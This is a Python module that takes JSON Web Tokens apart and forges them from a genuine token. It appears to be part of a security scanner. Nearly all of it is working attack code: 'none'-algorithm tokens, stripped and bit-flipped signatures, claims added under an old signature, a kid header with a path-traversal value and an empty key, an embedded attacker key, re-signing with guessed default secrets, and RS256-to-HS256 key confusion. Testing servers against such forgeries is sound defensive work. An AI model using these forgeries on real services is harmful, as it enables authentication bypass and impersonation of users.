"""JSON Web Tokens (RFC 7519) in their compact form, and forgeries of one that is genuine."""

import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Final, cast

from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey, RSAPublicNumbers
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

HASHES: Final = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
NONES = ("none", "None", "NONE", "nOnE")
NOWHERE = "../../../../../../dev/null"
KEYS_AT_MOST = 4
BITS_AT_MOST = 16384


class Trick(StrEnum):
    """What was done to a genuine token."""

    NONE = "none"
    STRIPPED = "stripped"
    FLIPPED = "flipped"
    CHANGED = "changed"
    KID = "kid"
    JWK = "jwk"
    DEFAULT = "default"
    CONFUSED = "confused"


@dataclass(frozen=True, slots=True)
class Forgery:
    """A token that nobody should take.

    Attributes:
        how: what was done, in a few words.

    """

    trick: Trick
    how: str
    token: str = field(repr=False)


@dataclass(frozen=True, slots=True)
class Jwt:
    """A token, taken apart.

    Attributes:
        signed: header and payload as they stand in it, with the dot between them.

    """

    header: Mapping[str, object]
    claims: Mapping[str, object] = field(repr=False)
    signed: str = field(repr=False)
    signature: bytes = field(repr=False)

    @property
    def alg(self) -> str:
        """How it says that it is signed."""
        return str(self.header["alg"])

    def is_signed_with(self, secret: bytes) -> bool:
        """Whether a shared secret gives its signature."""
        if self.alg not in HASHES:
            return False
        return hmac.compare_digest(_mac(self.signed, secret, HASHES[self.alg]), self.signature)


def encoded(data: bytes) -> str:
    """Write bytes in the alphabet for URLs, without padding (RFC 7515, 2)."""
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(text: str) -> bytes:
    """Read them again.

    Raises:
        ValueError: they are written otherwise.

    """
    data = urlsafe_b64decode(text + "=" * (-len(text) % 4))
    if encoded(data) != text:
        raise ValueError("no base64url")
    return data


def parsed(text: str) -> Jwt | None:
    """Take a token apart; None is none, such as an opaque one."""
    signed, _, signature = text.rpartition(".")
    header, _, payload = signed.partition(".")
    try:
        parts, mark = (_object(header), _object(payload)), decoded(signature)
    except ValueError:
        return None
    if not isinstance(parts[0].get("alg"), str):
        return None
    return Jwt(*parts, signed, mark)


def macced(header: Mapping[str, object], claims: Mapping[str, object], secret: bytes) -> str:
    """Write a token that is signed with a shared secret."""
    alg = str(header["alg"])
    signed = f"{_written(header)}.{_written(claims)}"
    return f"{signed}.{encoded(_mac(signed, secret, HASHES[alg]))}"


def signed_by(
    header: Mapping[str, object], claims: Mapping[str, object], key: RSAPrivateKey
) -> str:
    """Write a token of RS256."""
    text = f"{_written(header)}.{_written(claims)}"
    return f"{text}.{encoded(key.sign(text.encode(), PKCS1v15(), SHA256()))}"


def signed_by_nobody(header: Mapping[str, object], claims: Mapping[str, object]) -> str:
    """Write a token that says that nobody signed it."""
    return f"{_written({**header, 'alg': 'none'})}.{_written(claims)}."


def jwk(key: RSAPrivateKey) -> dict[str, str]:
    """Write the public part of a key as a JWK (RFC 7517)."""
    numbers = key.public_key().public_numbers()
    n, e = (encoded(x.to_bytes((x.bit_length() + 7) // 8)) for x in (numbers.n, numbers.e))
    return {"kty": "RSA", "n": n, "e": e}


def forgeries(jwt: Jwt, own: RSAPrivateKey, claim: str) -> Iterator[Forgery]:
    """Forge it in every way that needs no knowledge of its key.

    Args:
        jwt: the genuine one.
        own: a key that the server has never seen.
        claim: the name of one that no server knows.

    """
    header, payload = jwt.signed.split(".")
    for none in NONES:
        unsigned = f"{_written({**jwt.header, 'alg': none})}.{payload}."
        yield Forgery(Trick.NONE, f'alg "{none}" without a signature', unsigned)
    mark = encoded(jwt.signature)
    if jwt.signature:
        yield Forgery(Trick.STRIPPED, "the signature left out", f"{jwt.signed}.")
        flipped = bytes([jwt.signature[0] ^ 0x80]) + jwt.signature[1:]
        how = "one bit of the signature changed"
        yield Forgery(Trick.FLIPPED, how, f"{jwt.signed}.{encoded(flipped)}")
    changed = _written({**jwt.claims, claim: True})
    yield Forgery(
        Trick.CHANGED, "a claim added under the old signature", f"{header}.{changed}.{mark}"
    )
    void = {**jwt.header, "alg": "HS256", "kid": NOWHERE}
    yield Forgery(Trick.KID, f"kid {NOWHERE} and an empty key", macced(void, jwt.claims, b""))
    yield Forgery(Trick.JWK, "a key of ours in its own header", _embedded(jwt, own))


def guessed(jwt: Jwt, secrets: Iterable[str]) -> Forgery | None:
    """Sign it anew with a secret that gives its signature, if one of these does.

    It says the same and is written otherwise, so that it is not the token that was given.
    """
    secret = next((each.encode() for each in secrets if jwt.is_signed_with(each.encode())), None)
    if secret is None:
        return None
    signed = f"{_written(jwt.header)}.{encoded(json.dumps(jwt.claims, indent=3).encode())}"
    token = f"{signed}.{encoded(_mac(signed, secret, HASHES[jwt.alg]))}"
    return Forgery(Trick.DEFAULT, "signed with a default secret of a framework", token)


def confused(jwt: Jwt, jwks: bytes) -> Iterator[Forgery]:
    """Sign it with public keys of a JWKS (RFC 7517) in PEM, as if they were shared secrets."""
    for kid, pem in _pems(jwks):
        for key in (pem, pem.rstrip()):
            header = {**jwt.header, "alg": "HS256"} | ({"kid": kid} if kid else {})
            how = "HS256 with the public key as the secret"
            yield Forgery(Trick.CONFUSED, how, macced(header, jwt.claims, key))


def _pems(jwks: bytes) -> Iterator[tuple[str, bytes]]:
    try:
        listed: object = json.loads(jwks)
    except (ValueError, RecursionError):
        return
    keys = cast("dict[str, object]", listed).get("keys") if isinstance(listed, dict) else None
    if not isinstance(keys, list):
        return
    for each in cast("list[object]", keys)[:KEYS_AT_MOST]:
        if isinstance(each, dict) and (pem := _pem(cast("dict[str, object]", each))):
            kid = cast("dict[str, object]", each).get("kid")
            yield kid if isinstance(kid, str) else "", pem


def _pem(jwk: Mapping[str, object]) -> bytes:
    """Write an RSA key as PEM; empty is no such key."""
    n, e = jwk.get("n"), jwk.get("e")
    if not (isinstance(n, str) and isinstance(e, str) and len(n) * 6 <= BITS_AT_MOST):
        return b""
    try:
        numbers = (int.from_bytes(decoded(e)), int.from_bytes(decoded(n)))
        public = RSAPublicNumbers(*numbers).public_key()
    except ValueError:
        return b""
    return public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def _embedded(jwt: Jwt, own: RSAPrivateKey) -> str:
    return signed_by({**jwt.header, "alg": "RS256", "jwk": jwk(own)}, jwt.claims, own)


def _mac(signed: str, secret: bytes, digest: str) -> bytes:
    return hmac.digest(secret, signed.encode(), digest)


def _written(part: Mapping[str, object]) -> str:
    return encoded(json.dumps(part, separators=(",", ":")).encode())


def _object(text: str) -> dict[str, object]:
    try:
        value: object = json.loads(decoded(text))
    except RecursionError as error:
        raise ValueError("nested too deeply") from error
    if not isinstance(value, dict):
        raise ValueError("no object")  # noqa: TRY004 - all faults of a token are one kind
    return cast("dict[str, object]", value)
